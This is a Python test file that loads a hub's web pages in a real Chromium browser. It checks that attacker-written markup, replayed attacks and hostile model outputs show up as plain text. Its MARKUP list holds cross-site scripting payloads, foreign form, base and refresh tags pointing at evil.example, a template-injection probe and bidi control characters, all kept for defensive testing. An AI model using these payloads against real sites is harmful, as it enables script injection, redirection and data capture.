"""What attackers write, shown to a real browser: it runs nothing, asks for nothing elsewhere, opens nothing."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterable
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.agent.test_output_corpus import CORPUS
from tests.attacks.attack import SCENES, read_corpus
from tests.attacks.stage import Stage
from tests.support.hubs import git, write_commit
from tests.support.world import Node, World
from tests.web.browser import Noticed, chromium, needs_chromium, open_context
from tests.web.site import Site, serving

pytestmark = needs_chromium
MARKUP = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '"><svg onload=window.hit=1>',
    "' onmouseover='window.hit=1' x='",
    "javascript:window.hit=1",
    "</pre></div><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href='javascript:window.hit=1'>x</a><base href='http://evil.example/'>",
    "<form action='http://evil.example/'><button>Write the decision</button></form>",
    "<style>*{display:none}</style><link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "<div hx-get='http://evil.example/' hx-trigger=load></div><div hx-on:load='window.hit=1'></div>",
    "<body data-live='http://evil.example/'>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "![x](http://evil.example/x.png) [x](javascript:window.hit=1)",
    "\u202eevil\u2066\u200b\x1b[31m",
)
"""What would run, load or lead elsewhere where it was not escaped."""


def look_around(node: Node, more: Iterable[str] = ()) -> tuple[Noticed, int]:
    """Every page of the hub and every thread, with script; what the browser noticed, and how many pages there were."""
    with serving(node.root) as site, chromium() as browser:
        noticed = Noticed(f"http://{site.host}/")
        page = open_context(browser).new_page()
        noticed.watch(page)
        page.goto(json.loads(node.cn("web", "--json").stdout)["link"])
        page.wait_for_url(f"http://{site.host}/")
        paths = _paths(node, site, more)
        for path in paths:
            page.goto(f"http://{site.host}{path}")
            page.evaluate("document.querySelectorAll('details').forEach(e => { e.open = true; })")
            found = page.evaluate(_FOUND)
            if found != [None, 0, 0, 0, 0]:
                noticed.problems.append(f"{path}: {found}")
        return noticed, len(paths)


_FOUND = """() => {
  const all = (selector) => [...document.querySelectorAll(selector)];
  const ours = (address) => new URL(address).origin === location.origin;
  return [
    window.hit,
    all('base, iframe, style, img, object, embed, link:not([href^="/static/"])').length,
    all('form').filter(e => !ours(e.action)).length,
    all('a[href]').filter(e => !ours(e.href)).length,
    all('*').filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
  ];
}"""
"""What a page holds that none of ours does: a mark of a script, foreign elements, addresses, handlers."""


def _paths(node: Node, site: Site, more: Iterable[str]) -> list[str]:
    threads = json.loads(node.cn("thread", "list", "--all", "--json").stdout)
    names = [f"{kind}/{quote(one['thread'] or one['path'])}" for one in threads for kind in ("thread", "why")]
    texts = [
        f"{page}?{field}={quote(text)}"
        for page, field in (("threads", "text"), ("log", "text"), ("log", "since"))
        for text in MARKUP
    ]
    sections = ("", "threads?state=all", "agent", "peers", "log", "history")
    return [f"/{one}" for one in (*sections, *names, *texts[:: len(MARKUP) - 1], *more)]


@pytest.mark.sliced(4)
@pytest.mark.skipif(not shutil.which("ssh-keygen"), reason="keys are made with ssh-keygen")
@pytest.mark.parametrize("scene", [scene for scene in reversed(SCENES) if scene != "alone"])
def test_the_attacks_of_the_corpus_do_nothing_to_a_browser(scene: str, world: World) -> None:
    stage = Stage.build(world, scene)
    with stage.open:
        stage.perform([attack for attack in read_corpus() if attack.scene == scene])
    noticed, count = look_around(stage.sigma)
    assert noticed.problems == []
    assert count > 10


def test_markup_in_every_text_of_a_peer_is_text(world: World, sigma: Node, pi: Node) -> None:
    whole = "\n".join(MARKUP).replace("\x1b", "")
    files = {f"docs/{number}<b>.md": text.replace("\x1b", "") for number, text in enumerate(MARKUP)}
    for number, text in enumerate(MARKUP[::4]):
        clean = text.replace("\x1b", "")
        world.propose(
            pi, sigma, f"p{number}", {f"docs/p{number}.md": clean}, message=clean, author=f"x{number} <a@b.c>"
        )
    world.propose(pi, sigma, "all", files, message=f"All of it\n\n{whole}")
    world.propose(pi, sigma, "change", {"docs/start.md": whole}, message="<b>Change</b>")
    pi.cn("send", "sigma", MARKUP[0], "--body", whole)
    sigma.sync()
    for number in range(3):
        sigma.triage(f"pi/p{number}", f"delete:{MARKUP[number]}")
    sigma.triage("pi/p3", f"defer:{MARKUP[3]}")
    sigma.process()
    sigma.cn("adhoc", MARKUP[1], "--body", whole)
    noticed, count = look_around(sigma)
    assert noticed.problems == []
    assert count > 15


@pytest.mark.full
def test_what_models_answer_is_text(world: World, sigma: Node, pi: Node, tmp_path: Path) -> None:
    """The corpus of outputs, hostile ones too, as it lies in the archive and in a peer's proposal."""
    outputs = {path.name: path.read_bytes() for path in sorted(CORPUS.glob("*.md"))}
    assert len(outputs) > 100
    head = write_commit(
        sigma.root,
        {f"logs/{kind}/20260205-14{number // 60:02d}{number % 60:02d}-3fa2c1.md": data
         for kind in ("input", "output") for number, data in enumerate(outputs.values())},
        "archive", [sigma.main],
    )  # fmt: skip
    _move_main(sigma, head)
    items = [f"why/20260205-14{number // 60:02d}{number % 60:02d}-3fa2c1" for number in range(0, len(outputs), 30)]
    noticed, _ = look_around(sigma, items)
    assert noticed.problems == []


def _move_main(node: Node, head: str) -> None:
    git(node.root, "merge", "--quiet", "--ff-only", head)
    git(node.root, "push", "--quiet", "origin", "main")
